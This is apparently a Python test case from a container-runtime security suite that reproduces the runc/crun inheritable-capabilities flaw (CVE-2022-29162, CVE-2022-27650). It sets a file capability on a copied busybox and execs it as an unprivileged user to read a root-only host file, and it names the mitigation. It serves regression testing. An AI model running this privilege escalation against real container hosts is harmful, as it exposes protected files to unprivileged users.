"""An exec hands on inheritable capabilities, which a program of the image with file capabilities turns into real ones."""

import os
import struct

from bypass import inert

SOURCE = "CVE-2022-29162 (runc), CVE-2022-27650 (crun): non-empty inheritable sets at exec"
WAY = "exec"
STOPPED = inert("all five sets are emptied at every exec, and no_new_privs is set")


def attack(t):
    t.plant("/mnt/host/data/only-root", 0o600)
    t.bind("/mnt/host/data", "/x", "rbind", "ro")
    t.sh("cp %s/bin/busybox %s/bin/busybox-with-rights" % (t.rootfs, t.rootfs))
    # cap_dac_override=i in the file, version 2
    os.setxattr(t.rootfs + "/bin/busybox-with-rights", "security.capability", struct.pack("<IIIII", 0x02000001, 0, 2, 0, 0))
    t.up()
    some = ["CAP_DAC_OVERRIDE"]
    return t.leaked(t.exec("busybox-with-rights cat /x/only-root", user={"uid": 1000, "gid": 1000},
                           capabilities={"bounding": some, "inheritable": some, "permitted": some, "effective": some}))
